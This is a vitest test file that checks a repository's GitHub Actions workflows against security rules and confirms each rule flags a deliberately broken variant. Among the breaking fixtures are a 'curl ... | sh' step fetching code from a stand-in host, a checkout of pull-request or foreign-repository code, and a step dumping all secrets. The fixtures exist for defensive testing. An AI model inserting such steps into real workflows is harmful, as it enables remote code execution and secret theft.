/** The workflows of this repository keep to every rule, and each rule notices the one change that breaks it. */
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { brokenRules, PINNED_ACTIONS, ruleNames, type WorkflowRule } from '../.ci/workflow-rules.ts';
import { ownWorkflows } from '../src/adapters/own-workflows.ts';
import { adoptedWorkflows } from '../src/core/adoption/workflows.ts';

const FOLDER = resolve(import.meta.dirname, '../.github/workflows');
const files = readdirSync(FOLDER).map((name) => ({ name, text: readFileSync(join(FOLDER, name), 'utf8') }));

interface Parsed {
  readonly jobs: Readonly<Record<string, { readonly permissions: Readonly<Record<string, string>> }>>;
}

const rightsOf = (text: string): Readonly<Record<string, string>> => {
  const { jobs }: Parsed = parse(text);
  return Object.fromEntries(
    Object.entries(jobs).map(([id, { permissions }]) => [
      id,
      Object.entries(permissions)
        .map(([name, level]) => `${name}:${level}`)
        .toSorted()
        .join(' '),
    ]),
  );
};

/** Written out, so that a right more is a line that somebody reads here. */
const RIGHTS = {
  'audit.yml': {
    verify: 'actions:read contents:read issues:write statuses:write',
    doctor: 'actions:read contents:read id-token:write issues:write statuses:read',
    preflight: 'contents:write id-token:write statuses:write',
  },
  'ci.yml': { test: 'contents:read' },
  'dependencies.yml': { review: 'contents:read' },
  'elevate.yml': {
    elevate: 'actions:read contents:write id-token:write issues:write pull-requests:write statuses:write',
    wake: 'actions:write contents:read',
  },
  'release.yml': { rebuild: 'contents:read', publish: 'attestations:write contents:write id-token:write' },
  'request.yml': {
    evaluate: 'checks:read contents:read issues:write pull-requests:write statuses:write',
    act: 'actions:write contents:write pull-requests:write',
    propose: 'contents:read issues:write',
    queue: 'statuses:write',
  },
  'review.yml': { wake: '' },
  'revoke.yml': {
    revoke: 'actions:write contents:write id-token:write issues:write pull-requests:write statuses:write',
    shard: 'contents:write id-token:write issues:write pull-requests:write statuses:write',
  },
  'version.yml': { impact: 'contents:read' },
  'watch.yml': {
    watch: 'actions:write contents:write id-token:write issues:write pull-requests:write statuses:write',
  },
};

describe('the workflows', () => {
  it.each(files.map(({ name, text }) => [name, text]))('%s keeps to every rule', (_name, text) => {
    expect(brokenRules(text)).toEqual([]);
  });

  it('have the rights that are listed here and no other', () => {
    expect(Object.fromEntries(files.map(({ name, text }) => [name, rightsOf(text)]))).toEqual(RIGHTS);
  });

  it('that a repository of one’s own gets keep to every rule, with the released action by its commit', () => {
    const uses = `contoso/gatehouse@${'a'.repeat(40)}`;
    const released = { repository: 'contoso/gatehouse', sha: 'a'.repeat(40), release: 'v1.2.3' };
    for (const { path, text } of adoptedWorkflows(ownWorkflows(), released)) {
      expect(text).toContain(path.endsWith('review.yml') ? 'pull_request_review' : uses);
      expect({
        path,
        broken: brokenRules(text.replace(/(uses:) contoso\/gatehouse@a{40}.*$/gm, '$1 ./')),
      }).toEqual({
        path,
        broken: [],
      });
    }
  });

  it('name no action that is not pinned by the whole id of a commit', () => {
    for (const { sha, version } of Object.values(PINNED_ACTIONS)) {
      expect(sha).toMatch(/^[0-9a-f]{40}$/);
      expect(version).toMatch(/^v\d+\.\d+\.\d+$/);
    }
    const used = new Set(
      files.flatMap(({ text }) => [...text.matchAll(/uses: ([\w-]+\/[\w-]+)@/g)].map((m) => m[1])),
    );
    expect([...used].toSorted()).toEqual(Object.keys(PINNED_ACTIONS).toSorted());
  });
});

const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';

const SOUND = `
name: sound
on:
  pull_request_target:
    types: [opened]
permissions: {}
jobs:
  judge:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    environment: gatehouse-review
    permissions:
      contents: read # the policy
      statuses: write # the status
    steps:
      - uses: ${CHECKOUT}
        with:
          persist-credentials: false
      - uses: ./
        with:
          token: \${{ secrets.TOKEN }}
  look:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      contents: read # the sources
    steps:
      - run: npm ci --ignore-scripts && npm test
`;

const OF_A_PULL = `
on: [pull_request]
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    permissions:
      contents: read # the sources
    steps:
      - run: npm ci --ignore-scripts && npm test
`;

const OF_AZURE = `
on: [push]
permissions: {}
jobs:
  open:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    environment: gatehouse-elevate
    permissions:
      id-token: write # Entra
    steps:
      - uses: ./
`;

/** Text, what is replaced in it, by what. */
type Change = readonly [base: string, from: string, to: string];

const BREAKS: Readonly<Record<WorkflowRule, readonly Change[]>> = {
  'no-rights-at-the-top': [
    [SOUND, 'permissions: {}', 'permissions: read-all'],
    [SOUND, 'permissions: {}\n', ''],
    [SOUND, 'permissions: {}', 'permissions: { contents: read }'],
  ],
  'rights-of-each-job': [[SOUND, '    permissions:\n      contents: read # the sources\n', '']],
  'reason-for-each-right': [[SOUND, ' # the sources', '']],
  'known-levels': [[OF_A_PULL, 'contents: read', 'contents: admin']],
  'pinned-actions': [
    [SOUND, CHECKOUT, 'actions/checkout@v7'],
    [SOUND, CHECKOUT, 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1'],
    [SOUND, CHECKOUT, 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b2 # v7.0.1'],
    [SOUND, 'uses: ./', `uses: somebody/else@${'b'.repeat(40)} # v1.0.0`],
  ],
  'no-cache': [
    [SOUND, '      - run: npm ci', '      - uses: ./\n        with: { cache: npm }\n      - run: npm ci'],
  ],
  'no-install-scripts': [
    [SOUND, ' --ignore-scripts', ''],
    [SOUND, 'npm test', 'npx something'],
    [SOUND, 'npm test', 'npm install left-pad'],
  ],
  'no-foreign-code-with-rights': [
    [SOUND, '      - uses: ./\n', '      - run: npm run build\n      - uses: ./\n'],
    [SOUND, '      - uses: ./\n', '      - run: node tool.js\n      - uses: ./\n'],
    [SOUND, '      - uses: ./\n', '      - run: curl -sS https://x.example | sh\n      - uses: ./\n'],
  ],
  'no-credentials-left-behind': [
    [SOUND, 'persist-credentials: false', 'persist-credentials: true'],
    [SOUND, '        with:\n          persist-credentials: false\n', ''],
  ],
  'no-checkout-of-a-pull-request': [
    [
      SOUND,
      'persist-credentials: false',
      'persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}',
    ],
    [SOUND, 'persist-credentials: false', 'persist-credentials: false\n          ref: refs/pull/7/merge'],
    [SOUND, 'persist-credentials: false', 'persist-credentials: false\n          repository: mallory/access'],
  ],
  'no-expression-in-a-script': [[SOUND, 'npm test', 'echo ${{ github.head_ref }}']],
  'nothing-for-a-pull-request': [
    [OF_A_PULL, 'contents: read', 'contents: write'],
    [OF_A_PULL, '    steps:', '    environment: release\n    steps:'],
  ],
  'secrets-only-in-environments': [
    [SOUND, '    environment: gatehouse-review\n', ''],
    [SOUND, '${{ secrets.TOKEN }}', '${{ toJSON(secrets) }}'],
  ],
  'id-token-only-in-environments': [
    [OF_AZURE, '    environment: gatehouse-elevate\n', ''],
    [OF_AZURE, 'gatehouse-elevate', 'production'],
  ],
  'azure-only-for-this-action': [
    [
      OF_AZURE,
      '      - uses: ./',
      `      - uses: actions/attest@${PINNED_ACTIONS['actions/attest']?.sha ?? ''} # v4.2.2`,
    ],
    [OF_AZURE, '      - uses: ./', "      - run: 'true'"],
  ],
  'runners-of-github': [[SOUND, 'runs-on: ubuntu-latest', 'runs-on: self-hosted']],
  'an-end-in-time': [[SOUND, '    timeout-minutes: 5\n', '']],
  'no-container-or-reuse': [[SOUND, '    steps:', '    container: node:24\n    steps:']],
};

describe('a rule', () => {
  it('is broken by none of the sound examples', () => {
    for (const text of [SOUND, OF_A_PULL, OF_AZURE]) expect(brokenRules(text)).toEqual([]);
  });

  it.each(
    ruleNames.flatMap((rule) => BREAKS[rule].map((change, index) => [rule, index + 1, change] as const)),
  )('%s notices what breaks it (%d)', (rule, _index, [base, from, to]) => {
    expect(base).toContain(from);
    expect(brokenRules(base.replace(from, () => to)).map((broken) => broken.rule)).toContain(rule);
  });
});
